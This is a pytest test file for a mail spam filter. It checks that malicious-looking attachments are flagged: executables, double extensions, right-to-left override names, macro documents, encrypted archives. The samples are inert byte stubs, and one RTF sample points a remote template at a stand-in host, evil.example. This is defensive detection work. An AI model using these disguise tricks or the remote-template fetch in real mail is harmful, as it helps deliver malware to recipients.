"""Rules about files: the worst counts once, and what people send each other is let be."""

import base64
import gzip

import pytest

from mailstack.spam.rules.files import RULES
from mailstack.spam.rules.rule import findings_of
from tests.spam.rules.test_archives import archive_of, encrypted, tar_of
from tests.spam.rules.test_inside import OLE
from tests.spam.test_seen import mixed, part
from tests.support.evidence import HEADER, evidence

TEXT = part(
    b"text/plain", b"Please find attached what we talked about on the phone on Monday, and the other papers too. " * 3
)
MACROS = archive_of({"[Content_Types].xml": b"", "word/vbaProject.bin": b""})


def attached(*files: tuple[str, bytes], text: bytes = TEXT) -> list[str]:
    parts = [
        part(
            b"application/octet-stream",
            base64.encodebytes(content),
            b'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="'
            + name.encode()
            + b'"\r\n',
        )
        for name, content in files
    ]
    return [one.rule for one in findings_of(RULES, evidence(HEADER + mixed(text, *parts)))]


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("photo.jpg", b"\xff\xd8", []),
        ("notes.txt", b"MZ 12, Mainz", []),
        ("letter.pdf", b"%PDF-1.7", []),
        ("invoices.zip", archive_of({"a.pdf": b"x", "b.pdf": b"y"}), []),
        ("report.docx", archive_of({"[Content_Types].xml": b"", "word/document.xml": b""}), []),
        ("report.doc", OLE, []),
        ("backup.tar.gz", b"\x1f\x8b", []),
        ("invite.ics", b"BEGIN:VCALENDAR", []),
        ("setup.exe", b"MZ", ["file-program"]),
        ("invoice.js", b"x", ["file-program"]),
        ("invoice.pdf.exe", b"MZ", ["file-disguised"]),
        ("invoice.pdf.vbs", b"x", ["file-disguised"]),
        ("invoice\u202efdp.scr", b"x", ["file-disguised"]),
        ("invoice.pdf", b"MZ\x90\0", ["file-disguised"]),
        ("invoice.pdf        .htm", b"x", ["file-hides-ending"]),
        ("invoice.zip", archive_of({"invoice.exe": b"MZ"}), ["archive-program"]),
        ("invoice.zip", archive_of({"invoice.js": b"x"}), ["archive-program"]),
        ("invoice.zip", archive_of({"i.zip": archive_of({"i.lnk": b"x"})}), ["archive-program"]),
        ("invoice.zip", archive_of({"invoice.iso": b"x"}), ["archive-program"]),
        ("invoice.rar", b"Rar!\x1a\x07\0\0invoice.exe\0", ["archive-program"]),
        ("invoice.tar", tar_of("invoice.vbs"), ["archive-program"]),
        ("invoice.exe.gz", b"\x1f\x8b", ["archive-program"]),
        ("invoice.gz", gzip.compress(b"MZ\x90\0", mtime=0), ["archive-program"]),
        ("site.zip", archive_of({f"src/{number}.js": b"x" for number in range(9)}), []),
        ("invoice.zip", encrypted(archive_of({"a.pdf": b"x"})), ["archive-encrypted"]),
        ("invoice.docx", OLE + "EncryptedPackage".encode("utf-16-le"), ["document-encrypted"]),
        ("invoice.docm", MACROS, ["macros"]),
        ("invoice.docx", MACROS, ["macros-disguised"]),
        ("invoice.doc", OLE + "_VBA_PROJECT".encode("utf-16-le"), ["macros"]),
        ("invoice.doc", b"{\\rtf1 \\objupdate", ["document-objects"]),
        ("invoice.doc", b"{\\rtf1{\\*\\template http://evil.example/t}}", ["document-fetches"]),
        ("invoice.iso", b"x", ["file-disk"]),
        ("invoice.one", b"x", ["file-disk"]),
        ("invoice.html", b"<script>x()</script>", ["page-scripts"]),
        ("invoice.html", b"<p>hello</p>", ["page"]),
        ("invoice.ace", b"x", ["archive-rare"]),
    ],
)
def test_one_file(name: str, content: bytes, expected: list[str]) -> None:
    assert attached((name, content)) == expected


def test_of_several_the_worst_counts() -> None:
    assert attached(("a.html", b"<p>"), ("b.exe", b"MZ"), ("c.docm", MACROS)) == ["file-program"]


def test_an_archive_with_hardly_a_word() -> None:
    assert attached(("a.zip", archive_of({"a.pdf": b"x"})), text=part(b"text/plain", b"see attached")) == [
        "archive-alone"
    ]


def test_which_one_it_was_is_told() -> None:
    (found,) = findings_of(RULES, evidence(HEADER + mixed(part(b"application/x; name=a.exe", b"MZ"))))
    assert found.why == "a program is attached: a.exe"
